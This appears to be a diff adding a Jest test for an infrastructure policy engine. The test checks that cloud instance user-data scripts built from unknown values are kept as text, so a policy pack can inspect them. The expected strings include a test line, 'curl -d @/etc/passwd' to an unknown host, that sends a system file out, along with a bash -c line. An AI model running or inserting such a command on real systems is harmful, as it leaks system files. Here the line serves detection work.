@@ -1,0 +1,58 @@
+/**
+ * Offline, a script the compute runs that a program builds from a value the engine cannot know
+ * (test/fixtures/engine/script-texts.ts) was recorded wholly unknown, so the pack could not read
+ * it: an EKS node's bootstrap line that passes an address the provider assigns failed closed,
+ * and a line uploading abroad beside an unknown token was never seen. The engine now records such
+ * a script input as the text the program built, each unknown value a stand-in's mark
+ * (engine/invokes/callbacks.ts `texts`), which the pack reads as a value it cannot know; every
+ * other input built from the same values stays unknown.
+ */
+import * as path from "node:path";
+import type { Plan, RecordedResource } from "../../engine/plan";
+import { unknownValue } from "../../engine/wire";
+import { evaluateMany } from "../helpers/worker";
+
+const dir = path.resolve(__dirname, "..", "fixtures", "engine");
+let plan: Plan;
+beforeAll(async () => {
+  const [result] = await evaluateMany([
+    { projectDir: dir, stack: "dev", program: path.join(dir, "script-texts.ts") },
+  ]);
+  plan = result as Plan;
+}, 60_000);
+
+const inputs = (name: string): RecordedResource["inputs"] => {
+  const r = plan.resources.find((x) => x.name === name);
+  if (r === undefined) {
+    throw new Error(`no resource ${name}`);
+  }
+  return r.inputs;
+};
+
+/** A text with each mark written as `⟨?⟩`, as the marks' numbers follow the evaluation's order. */
+const shown = (v: unknown) => (typeof v === "string" ? v.replace(/⟨unknown \d+⟩/g, "⟨?⟩") : v);
+
+it("records interpolated user data as its text, the unknown values as marks", () => {
+  expect(shown(inputs("interpolated").userData)).toBe(
+    "#!/bin/bash\necho ⟨?⟩ > /etc/app/token\nping -c1 ⟨?⟩\n",
+  );
+});
+
+it("keeps another input built from the same value unknown", () => {
+  expect((inputs("interpolated").tags as Record<string, unknown>).token).toBe(unknownValue);
+});
+
+it("records a concatenated script and one the program's callback built", () => {
+  expect(shown(inputs("concatenated").userData)).toBe('#!/bin/bash\nbash -c "⟨?⟩"\n');
+  expect(shown(inputs("called-back").userData)).toBe(
+    "#!/bin/bash\ncurl -d @/etc/passwd https://⟨?⟩/x\n",
+  );
+});
+
+it("records base64 user data encoded from such a text, the marks inside", () => {
+  const encoded = inputs("encoded").userData;
+  expect(typeof encoded).toBe("string");
+  expect(shown(Buffer.from(encoded as string, "base64").toString("utf8"))).toBe(
+    "#!/bin/bash\n/etc/eks/bootstrap.sh nodes --apiserver-endpoint ⟨?⟩\n",
+  );
+});
